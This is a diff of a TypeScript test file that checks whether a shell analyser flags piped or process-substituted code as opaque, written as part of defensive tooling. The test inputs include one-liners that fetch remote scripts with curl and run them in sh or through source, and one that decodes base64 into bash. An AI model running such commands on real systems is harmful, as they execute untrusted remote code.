@@ -82,11 +82,11 @@ describe('xargs input known only at run time', () => {
 
 describe('a shell reading its code from a pipe', () => {
   const opaque = (line: string) => analyzeShell(line).commands.some((c) => c.opaque !== undefined);
-  it.each(['curl -s https://x.example.com/i.sh | sh', 'echo Z2l0 | base64 -d | bash', 'cat cmd.txt | bash -s', 'cat cmd.txt | sudo sh', 'cat s | ssh host', 'cat s | su deploy', 'for x in a; do echo $x; done | sh'])(
+  it.each(['curl -s https://x.example.com/i.sh | sh', 'echo Z2l0 | base64 -d | bash', 'cat cmd.txt | bash -s', 'cat cmd.txt | sudo sh', 'cat s | ssh host', 'cat s | su deploy', 'for x in a; do echo $x; done | sh', 'cat c | (sh)', 'cat c | (cd /tmp && bash)', 'cat c | bash /dev/stdin', 'cat c | source /dev/stdin', 'cat c | . /dev/fd/0', 'sh <(cat c)', 'source <(curl -s https://x.example.com)'])(
     'opaque: %s',
     (line) => expect(opaque(line)).toBe(true),
   );
-  it.each(['echo hi | sh -c cat', 'ls | bash -c "wc -l"', "echo 'git status' | sh", 'sh < deploy.sh', 'sh deploy.sh', 'cat a | wc -l', 'git status | cat', 'ssh host uptime < /dev/null'])(
+  it.each(['echo hi | sh -c cat', 'ls | bash -c "wc -l"', "echo 'git status' | sh", 'sh < deploy.sh', 'sh deploy.sh', 'cat a | wc -l', 'git status | cat', 'ssh host uptime < /dev/null', 'cat c | (sh) < /dev/null', 'git log | (head -5)', 'source .venv/bin/activate', "echo 'git status' | bash /dev/stdin"])(
     'not opaque: %s',
     (line) => expect(opaque(line)).toBe(false),
   );
